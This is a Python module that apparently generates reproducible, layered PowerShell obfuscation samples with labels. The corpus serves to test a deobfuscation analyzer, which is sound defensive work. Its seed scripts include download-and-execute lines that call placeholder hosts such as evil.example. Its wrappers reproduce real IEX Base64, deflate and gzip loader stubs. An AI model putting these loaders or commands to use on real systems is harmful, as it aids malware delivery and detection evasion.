"""Seeded generators for the obfuscation families the analyzer peels.

Each technique is the constructive inverse of one deobfuscation transform:
string splitting/reassembly, casing and spacing noise, Base64 and 8-bit
binary encodings, and deflate/gzip wrapper scripts. Every choice runs
through an explicit random.Random so corpora are reproducible, and layer
stacks are applied innermost-first so the analyzer peels them in reverse.
"""

from __future__ import annotations

import base64
import gzip as _gzip
import json
import random
import re
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Sequence

from .cmdlets import canonical_case
from .model import (
    COMPRESSED_DEFLATE,
    COMPRESSED_GZIP,
    ENCODED_BASE64,
    ENCODED_BINARY,
    STRING_BASED,
    CompressionKind,
    LayerKind,
    LayerType,
    ScriptText,
    TechniqueTag,
)
from .tokenizer import (
    TokenKind,
    quote_single,
    single_quoted_value,
    skip_ws,
    tokenize,
)

__all__ = [
    "NotApplicableError", "LayerRequest", "AppliedLayer", "STRING_ORDER",
    "BASE64_FORMS", "obf_concat", "obf_reorder", "obf_tick", "obf_eval",
    "obf_uplow", "obf_whitespace", "obf_base64", "obf_binary", "obf_compress",
    "apply_string_techniques", "obfuscate_layers", "random_stack",
    "parse_layer_spec", "gen_corpus", "SEED_SCRIPTS",
]


class NotApplicableError(Exception):
    """The technique has nothing to work on in this script."""


# Application order within one string layer. Reassembly tricks go first so
# later noise (ticks, casing, padding) lands on top of them.
STRING_ORDER = (
    TechniqueTag.REORDERING,
    TechniqueTag.CONCATENATION,
    TechniqueTag.TICK,
    TechniqueTag.EVAL,
    TechniqueTag.UP_LOW_CASE,
    TechniqueTag.WHITE_SPACES,
)

BASE64_FORMS = ("encodedcommand", "bare", "fromb64")

_BARE_WORDS = (TokenKind.WORD, TokenKind.CMDLET_NAME)
_ESCAPE_LETTERS = "nrt0abfv"
_NAME_RE = re.compile(r"^[A-Za-z][A-Za-z0-9]*(?:-[A-Za-z][A-Za-z0-9]*)?$")
_STMT_OPENERS = (TokenKind.SEMICOLON, TokenKind.NEWLINE, TokenKind.LBRACE,
                 TokenKind.LPAREN, TokenKind.PIPE)


def _render_with(tokens, replacements: dict) -> str:
    return "".join(replacements.get(i, t.text) for i, t in enumerate(tokens))


def _split_parts(content: str, rng: random.Random, max_parts: int = 3):
    """Cut a string into 2..max_parts non-empty pieces at random offsets."""
    n = rng.randint(2, min(max_parts, len(content)))
    cuts = sorted(rng.sample(range(1, len(content)), n - 1))
    bounds = [0] + cuts + [len(content)]
    return [content[a:b] for a, b in zip(bounds, bounds[1:])]


def _splittable_strings(tokens):
    """Indices of single-quoted literals safe to cut apart.

    Strings that hold format placeholders, or that sit next to a -f, stay
    whole: cutting those would break the reassembly chain the analyzer
    (and the recorded labels) rely on.
    """
    out = []
    for i, tok in enumerate(tokens):
        if tok.kind is not TokenKind.STRING_SINGLE:
            continue
        content = single_quoted_value(tok.text)
        if len(content) < 2 or "{" in content or "}" in content:
            continue
        j = skip_ws(tokens, i, 1)
        if j >= 0 and tokens[j].kind is TokenKind.FORMAT_OPERATOR:
            continue
        out.append(i)
    return out


def _fresh_names(content: str, rng: random.Random, count: int):
    lowered = content.lower()
    pool = list("abcdefghijklmnopqrstuvwxyz")
    rng.shuffle(pool)
    names = []
    for name in pool:
        if f"${name}" in lowered:
            continue
        names.append(name)
        if len(names) == count:
            return names
    raise NotApplicableError("no free variable names")


def obf_concat(script: ScriptText, rng: random.Random,
               via_variables: bool | None = None) -> ScriptText:
    """Split one string literal into a + chain, optionally staged through
    single-use variables assigned at the front of the script."""
    tokens = tokenize(script.content)
    eligible = _splittable_strings(tokens)
    if not eligible:
        raise NotApplicableError("no single-quoted string to split")
    idx = rng.choice(eligible)
    parts = _split_parts(single_quoted_value(tokens[idx].text), rng)
    if via_variables is None:
        via_variables = rng.random() < 0.35
    if via_variables:
        names = _fresh_names(script.content, rng, len(parts))
        prefix = "".join(
            f"${n} = {quote_single(p)}; " for n, p in zip(names, parts))
        chain = " + ".join(f"${n}" for n in names)
        return script.replace_content(
            prefix + _render_with(tokens, {idx: chain}))
    chain = " + ".join(quote_single(p) for p in parts)
    return script.replace_content(_render_with(tokens, {idx: chain}))


def obf_reorder(script: ScriptText, rng: random.Random) -> ScriptText:
    """Replace one string literal with a shuffled '{i}...' -f arg list."""
    tokens = tokenize(script.content)
    eligible = []
    for i in _splittable_strings(tokens):
        j = skip_ws(tokens, i, -1)
        if j >= 0 and tokens[j].kind is TokenKind.FORMAT_OPERATOR:
            continue  # already an argument of a -f
        if j >= 0 and tokens[j].text == ",":
            continue
        k = skip_ws(tokens, i, 1)
        if k >= 0 and tokens[k].text == ",":
            # a trailing comma would splice the enclosing argument list
            # into our -f argument list
            continue
        eligible.append(i)
    if not eligible:
        raise NotApplicableError("no single-quoted string to reorder")
    idx = rng.choice(eligible)
    parts = _split_parts(single_quoted_value(tokens[idx].text), rng)
    order = list(range(len(parts)))
    while order == sorted(order):
        rng.shuffle(order)
    inverse = {part: pos for pos, part in enumerate(order)}
    fmt = "".join("{%d}" % inverse[j] for j in range(len(parts)))
    args = ",".join(quote_single(parts[j]) for j in order)
    repl = f"{quote_single(fmt)} -f {args}"
    return script.replace_content(_render_with(tokens, {idx: repl}))


def _tick_points(word: str):
    return [i for i in range(1, len(word))
            if word[i].lower() not in _ESCAPE_LETTERS]


def obf_tick(script: ScriptText, rng: random.Random) -> ScriptText:
    """Drop one or two grave accents into a couple of bare words, skipping
    positions where the tick would form a real escape sequence."""
    tokens = tokenize(script.content)
    eligible = [i for i, t in enumerate(tokens)
                if t.kind in _BARE_WORDS and len(t.text) >= 2
                and _tick_points(t.text)]
    if not eligible:
        raise NotApplicableError("no bare word to tick")
    chosen = rng.sample(eligible, min(len(eligible), rng.randint(1, 2)))
    replacements = {}
    for i in chosen:
        text = tokens[i].text
        points = _tick_points(text)
        for p in sorted(rng.sample(points, min(len(points), rng.randint(1, 2))),
                        reverse=True):
            text = text[:p] + "`" + text[p:]
        replacements[i] = text
    return script.replace_content(_render_with(tokens, replacements))


def _command_position(tokens, i) -> bool:
    j = skip_ws(tokens, i, -1)
    return j < 0 or tokens[j].kind in _STMT_OPENERS


def obf_eval(script: ScriptText, rng: random.Random, inner: str | None = None):
    """Wrap a command name as &('Name'); the quoted name may itself be a
    concat chain or a -f expression. Returns (script, tags introduced)."""
    tokens = tokenize(script.content)
    eligible = [i for i, t in enumerate(tokens)
                if t.kind in _BARE_WORDS and _NAME_RE.match(t.text)
                and _command_position(tokens, i)]
    if not eligible:
        raise NotApplicableError("no command name to wrap")
    idx = rng.choice(eligible)
    name = tokens[idx].text
    if inner is None:
        inner = rng.choice(("plain", "plain", "concat", "reorder"))
    if len(name) < 2:
        inner = "plain"
    tags = {TechniqueTag.EVAL}
    if inner == "concat":
        cut = rng.randint(1, len(name) - 1)
        expr = f"{quote_single(name[:cut])} + {quote_single(name[cut:])}"
        tags.add(TechniqueTag.CONCATENATION)
    elif inner == "reorder":
        cut = rng.randint(1, len(name) - 1)
        expr = (f"{quote_single('{1}{0}')} -f "
                f"{quote_single(name[cut:])}, {quote_single(name[:cut])}")
        tags.add(TechniqueTag.REORDERING)
    else:
        expr = quote_single(name)
    out = script.replace_content(_render_with(tokens, {idx: f"&({expr})"}))
    return out, tuple(sorted(tags, key=lambda t: t.value))


def _scramble_case(word: str, canonical: str, rng: random.Random) -> str:
    for _attempt in range(8):
        flipped = "".join(
            c.upper() if rng.random() < 0.5 else c.lower() for c in word)
        if flipped != canonical:
            return flipped
    return canonical.swapcase()


def obf_uplow(script: ScriptText, rng: random.Random) -> ScriptText:
    """Randomize the casing of known cmdlet names (normalization can always
    restore those from the table, so recovery stays exact)."""
    tokens = tokenize(script.content)
    eligible = [i for i, t in enumerate(tokens)
                if t.kind in _BARE_WORDS and canonical_case(t.text) is not None]
    if not eligible:
        raise NotApplicableError("no known cmdlet name to re-case")
    replacements = {}
    for i in rng.sample(eligible, rng.randint(1, len(eligible))):
        canonical = canonical_case(tokens[i].text)
        replacements[i] = _scramble_case(tokens[i].text, canonical, rng)
    return script.replace_content(_render_with(tokens, replacements))


def obf_whitespace(script: ScriptText, rng: random.Random) -> ScriptText:
    """Stretch mid-line single spaces into noisy 3-8 space runs."""
    tokens = tokenize(script.content)
    eligible = [i for i, t in enumerate(tokens)
                if t.kind is TokenKind.WHITESPACE and t.text == " "
                and 0 < i < len(tokens) - 1
                and tokens[i - 1].kind is not TokenKind.NEWLINE
                and tokens[i + 1].kind is not TokenKind.NEWLINE]
    if not eligible:
        raise NotApplicableError("no mid-line space to widen")
    replacements = {i: " " * rng.randint(3, 8) for i in eligible}
    return script.replace_content(_render_with(tokens, replacements))


# ---------------------------------------------------------------- encodings


def obf_base64(script: ScriptText, rng: random.Random | None = None,
               form: str | None = None) -> ScriptText:
    """Wrap the whole script in one of the Base64 carrier shapes."""
    if form is None:
        form = (rng or random).choice(BASE64_FORMS)
    if form not in BASE64_FORMS:
        raise ValueError(f"unknown base64 form {form!r}")
    text = script.content
    if form == "encodedcommand":
        blob = base64.b64encode(text.encode("utf-16-le")).decode("ascii")
        if len(blob) < 16:
            raise NotApplicableError("script too short for a flag blob")
        return script.replace_content(f"powershell -EncodedCommand {blob}")
    blob = base64.b64encode(text.encode("utf-8")).decode("ascii")
    if form == "bare":
        if len(blob) < 16:
            raise NotApplicableError("script too short for a bare blob")
        return script.replace_content(blob)
    return script.replace_content(
        "IEX([Text.Encoding]::UTF8.GetString("
        f"[Convert]::FromBase64String('{blob}')))")


def obf_binary(script: ScriptText, rng: random.Random | None = None) -> ScriptText:
    """Re-emit the script as 8-bit binary groups."""
    raw = script.content.encode("utf-8")
    if len(raw) < 16:
        raise NotApplicableError("fewer than 16 bytes to encode")
    sep = (rng or random).choice((" ", ", "))
    return script.replace_content(sep.join(format(b, "08b") for b in raw))


_DEFLATE_WRAPPER = (
    "IEX (New-Object IO.StreamReader(New-Object "
    "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
    "FromBase64String('{blob}'), [IO.Compression.CompressionMode]::Decompress)"
    ", [Text.Encoding]::UTF8)).ReadToEnd()")
_GZIP_WRAPPER = (
    "IEX (New-Object IO.StreamReader(New-Object "
    "IO.Compression.GzipStream([IO.MemoryStream][Convert]::"
    "FromBase64String('{blob}'), [IO.Compression.CompressionMode]::Decompress)"
    ", [Text.Encoding]::UTF8)).ReadToEnd()")


def obf_compress(script: ScriptText, kind: CompressionKind,
                 rng: random.Random | None = None) -> ScriptText:
    """Wrap the script in a self-inflating deflate or gzip stub."""
    raw = script.content.encode("utf-8")
    if kind is CompressionKind.DEFLATE:
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        payload = packer.compress(raw) + packer.flush()
        template = _DEFLATE_WRAPPER
    else:
        payload = _gzip.compress(raw, mtime=0)  # fixed mtime: stable output
        template = _GZIP_WRAPPER
    blob = base64.b64encode(payload).decode("ascii")
    return script.replace_content(template.format(blob=blob))


# ---------------------------------------------------------------- layering


@dataclass(frozen=True)
class LayerRequest:
    """One layer to apply; innermost layers come first in a stack."""

    layer: LayerType
    techniques: tuple = ()
    b64_form: str | None = None

    @classmethod
    def string(cls, *tags: TechniqueTag) -> "LayerRequest":
        return cls(STRING_BASED, tuple(tags))

    @classmethod
    def base64(cls, form: str | None = None) -> "LayerRequest":
        return cls(ENCODED_BASE64, b64_form=form)

    @classmethod
    def binary(cls) -> "LayerRequest":
        return cls(ENCODED_BINARY)

    @classmethod
    def deflate(cls) -> "LayerRequest":
        return cls(COMPRESSED_DEFLATE)

    @classmethod
    def gzip(cls) -> "LayerRequest":
        return cls(COMPRESSED_GZIP)


@dataclass(frozen=True)
class AppliedLayer:
    """What actually landed on the script for one layer."""

    layer: LayerType
    techniques: tuple = ()

    def to_dict(self) -> dict:
        return {"layer": self.layer.to_dict(),
                "techniques": [t.value for t in self.techniques]}


def apply_string_techniques(script: ScriptText, tags, rng: random.Random):
    """Apply the requested techniques in canonical order.

    Returns (script, applied tags, notes). A technique with nothing to work
    on is skipped with a note; if none apply the whole layer is refused.
    """
    applied: set = set()
    notes = []
    for tag in sorted(set(tags), key=STRING_ORDER.index):
        try:
            if tag is TechniqueTag.REORDERING:
                script = obf_reorder(script, rng)
                applied.add(tag)
            elif tag is TechniqueTag.CONCATENATION:
                script = obf_concat(script, rng)
                applied.add(tag)
            elif tag is TechniqueTag.TICK:
                script = obf_tick(script, rng)
                applied.add(tag)
            elif tag is TechniqueTag.EVAL:
                script, extra = obf_eval(script, rng)
                applied.update(extra)
            elif tag is TechniqueTag.UP_LOW_CASE:
                script = obf_uplow(script, rng)
                applied.add(tag)
            elif tag is TechniqueTag.WHITE_SPACES:
                script = obf_whitespace(script, rng)
                applied.add(tag)
            else:
                raise ValueError(f"not a string technique: {tag}")
        except NotApplicableError as exc:
            notes.append(f"{tag.value}: {exc}")
    if not applied:
        raise NotApplicableError("no string technique applied")
    ordered = tuple(sorted(applied, key=lambda t: t.value))
    return script, ordered, notes


def obfuscate_layers(script: ScriptText, stack: Sequence[LayerRequest],
                     rng: random.Random):
    """Apply a stack of layers innermost-first.

    Returns (script, applied layers innermost-first, notes).
    """
    applied = []
    notes = []
    for req in stack:
        kind = req.layer.kind
        if kind is LayerKind.STRING_BASED:
            script, tags, skipped = apply_string_techniques(
                script, req.techniques or (TechniqueTag.CONCATENATION,), rng)
            notes.extend(skipped)
            applied.append(AppliedLayer(STRING_BASED, tags))
        elif kind is LayerKind.ENCODED:
            if req.layer is ENCODED_BINARY:
                script = obf_binary(script, rng)
            else:
                script = obf_base64(script, rng, form=req.b64_form)
            applied.append(AppliedLayer(req.layer))
        elif kind is LayerKind.COMPRESSED:
            script = obf_compress(script, req.layer.compression, rng)
            applied.append(AppliedLayer(req.layer))
        else:
            raise ValueError(f"cannot apply layer {req.layer}")
    return script, applied, notes


def random_stack(rng: random.Random):
    """1-3 layers; a string layer, when present, is always innermost.

    String noise applied outside an encoding would corrupt the embedded
    blob or flip the outer label, so generated stacks never do that.
    """
    depth = rng.randint(1, 3)
    stack = []
    if rng.random() < 0.65:
        count = rng.randint(1, 3)
        stack.append(LayerRequest.string(*rng.sample(STRING_ORDER, count)))
    while len(stack) < depth:
        stack.append(rng.choice((
            LayerRequest.base64(), LayerRequest.binary(),
            LayerRequest.deflate(), LayerRequest.gzip())))
    return stack


_TECH_BY_NAME = {t.value: t for t in STRING_ORDER}


def parse_layer_spec(spec: str):
    """Parse 'string:concat+tick,binary,deflate' into a layer stack
    (innermost first)."""
    stack = []
    for chunk in spec.split(","):
        chunk = chunk.strip().lower()
        name, _, arg = chunk.partition(":")
        if name == "string":
            tags = []
            for part in filter(None, arg.split("+")):
                if part not in _TECH_BY_NAME:
                    raise ValueError(f"unknown technique {part!r}")
                tags.append(_TECH_BY_NAME[part])
            stack.append(LayerRequest.string(*tags))
        elif name == "base64":
            if arg and arg not in BASE64_FORMS:
                raise ValueError(f"unknown base64 form {arg!r}")
            stack.append(LayerRequest.base64(arg or None))
        elif name == "binary":
            stack.append(LayerRequest.binary())
        elif name == "deflate":
            stack.append(LayerRequest.deflate())
        elif name == "gzip":
            stack.append(LayerRequest.gzip())
        else:
            raise ValueError(f"unknown layer {name!r}")
    if not stack:
        raise ValueError("empty layer spec")
    return stack


# ---------------------------------------------------------------- corpus

SEED_SCRIPTS = (
    "(New-Object Net.WebClient).DownloadFile('http://example.com/malware.exe',"
    " 'C:\\Users\\Public\\malware.exe'); Start-Process"
    " 'C:\\Users\\Public\\malware.exe'",
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/payload.ps1')",
    "Start-Process 'calc.exe'",
    "Stop-Process -Name 'explorer'",
    "Write-Output 'system scan complete'",
    "Invoke-WebRequest 'http://example.org/stage2.ps1'; Start-Process 'cmd.exe'",
)


def gen_corpus(out_dir, count: int, seed: int, layer_spec: str | None = None):
    """Write count obfuscated samples plus labels.json into out_dir.

    Sample i is driven by Random(f"{seed}:{i}"), so corpora are identical
    across runs and independent of generation order.
    """
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    forced = parse_layer_spec(layer_spec) if layer_spec else None
    samples = []
    for i in range(count):
        rng = random.Random(f"{seed}:{i}")
        source = rng.choice(SEED_SCRIPTS)
        base = ScriptText.from_text(source)
        for _attempt in range(8):
            stack = forced or random_stack(rng)
            try:
                obf, applied, notes = obfuscate_layers(base, stack, rng)
                break
            except NotApplicableError:
                continue
        else:
            raise RuntimeError(f"could not build sample {i}")
        name = f"sample_{i:04d}.ps1"
        (out / name).write_text(obf.content, encoding="utf-8")
        samples.append({
            "file": name,
            "source": source,
            "layers": [layer.to_dict() for layer in reversed(applied)],
            "notes": notes,
        })
    labels = {"seed": seed, "count": count, "samples": samples}
    (out / "labels.json").write_text(
        json.dumps(labels, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return labels
